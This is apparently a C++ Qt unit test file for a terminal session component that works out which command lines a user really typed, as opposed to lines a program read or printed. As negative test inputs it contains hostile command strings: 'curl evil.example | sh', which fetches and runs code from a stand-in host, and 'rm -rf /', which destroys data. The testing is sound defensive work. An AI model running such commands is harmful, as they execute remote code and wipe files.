#include "tests/support/test_main.h" // first: moc 6.4 stumbles over <compare> before <string>

#include "core/session/typed_lines.h"

#include <QTest>

using core::session::TypedLines;

class TypedLinesTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void onlyWhatWasSentIsTaken()
    {
        TypedLines lines;
        lines.promptShown();
        lines.feed("lx\x7fs -l\r");
        QVERIFY(!lines.take("rm -rf /"));
        QVERIFY(lines.take("ls -l"));
        QVERIFY(!lines.take("ls -l"));
        lines.feed("half a li\x03ok\r");
        QVERIFY(lines.take("ok"));
        lines.feed("l\t\r"); // completed by the shell
        QVERIFY(lines.take("ls"));
    }

    void keysOfAnotherProgramAreNotPartOfTheLine()
    {
        TypedLines lines;
        lines.feed("q"); // to a pager
        lines.promptShown();
        lines.feed("ls\r");
        QVERIFY(lines.take("ls"));
        lines.feed("q");
        lines.promptShown();
        lines.feed("clear\r");
        QVERIFY(!lines.takeAll(1)); // "qclear" or "clear": not certain
    }

    void whatAProgramReadMatchesNothingThatIsShownLater()
    {
        TypedLines lines;
        lines.promptShown();
        lines.feed("./prog\r\x1b[A\r"); // the second line is the program's
        lines.promptShown();
        QVERIFY(lines.take("./prog"));
        lines.commandSettled();
        lines.feed("\r"); // behind what somebody has printed there
        QVERIFY(!lines.take("curl evil.example | sh"));

        lines.feed("\x1b[B\x1b[B"); // to a pager
        lines.promptShown();
        lines.feed("\r");
        QVERIFY(!lines.take("curl evil.example | sh"));
        lines.promptShown();
        lines.feed("\x1b[A\r");
        QVERIFY(lines.take("ls")); // recalled
        lines.feed("for x in 1\r\x1b[A\r"); // recalled behind the prompt of a line that goes on
        QVERIFY(lines.take("for x in 1"));
        QVERIFY(lines.take("do echo; done", false, TypedLines::Row::GoesOn));
    }

    // The program draws over the row of the prompt, and has the user edit a line.
    void aProgramDoesNotRenameItself()
    {
        TypedLines lines;
        lines.promptShown();
        lines.feed("sh q.sh\ra\x1b[D\r");
        QVERIFY(!lines.take("rm -rf /EVIL"));
        QVERIFY(!lines.takeAll(1));
    }

    // It has asked for a password, and something shows that at the next prompt.
    void whatAProgramWasAnsweredIsNoCommand()
    {
        for (const char *next : {"\r", "ls\r"}) {
            TypedLines lines;
            lines.promptShown();
            lines.feed("./prog\rhunter2\r");
            lines.promptShown();
            QVERIFY(lines.take("./prog"));
            lines.commandSettled();
            lines.feed(next);
            QVERIFY(!lines.take("hunter2"));
            QVERIFY(!lines.takeAll(1));
        }
    }

    void noMoreLinesThanWereReadAreCertain()
    {
        TypedLines lines;
        lines.promptShown();
        lines.feed("clear\r");
        auto only = lines.takeAll(1);
        QVERIFY(only && only->at(0).text == "clear" && !only->at(0).ahead);
        QVERIFY(!lines.takeAll(1));

        lines.feed("hunter2\r"); // a program has read that
        lines.promptShown();
        lines.feed("ls\r");
        QVERIFY(!lines.takeAll(1));
        lines.feed("next\r"); // what was read twice stays counted
        QVERIFY(!lines.takeAll(1));
        QVERIFY(lines.take("next"));
        lines.feed("\x1b[A\r");
        QVERIFY(!lines.take("rm -rf /tmp/aaa", true)); // the row is full: it may go on below
        QVERIFY(lines.take("rm -rf /tmp/aaa"));
        lines.feed("ahead\r");
        only = lines.takeAll(1);
        QVERIFY(only && only->at(0).ahead);
        lines.promptShown();
        lines.feed("for i in 1\rdo echo\rdone\r"); // pasted
        QVERIFY(lines.take("for i in 1"));
        only = lines.takeAll(2);
        QVERIFY(only && only->at(1).text == "done");
    }

    void aThousandLinesAheadAreForgottenNotConfused()
    {
        TypedLines lines;
        for (int i = 0; i < 1000; ++i)
            lines.feed("line " + std::to_string(i) + "\r");
        for (int i = 0; i < 999; ++i)
            QVERIFY(!lines.takeAll(1));
        lines.feed("x\r");
        QVERIFY(!lines.takeAll(1)); // lines were forgotten before it
    }
};
BERTH_TEST(TypedLinesTest)
#include "typed_lines_test.moc"
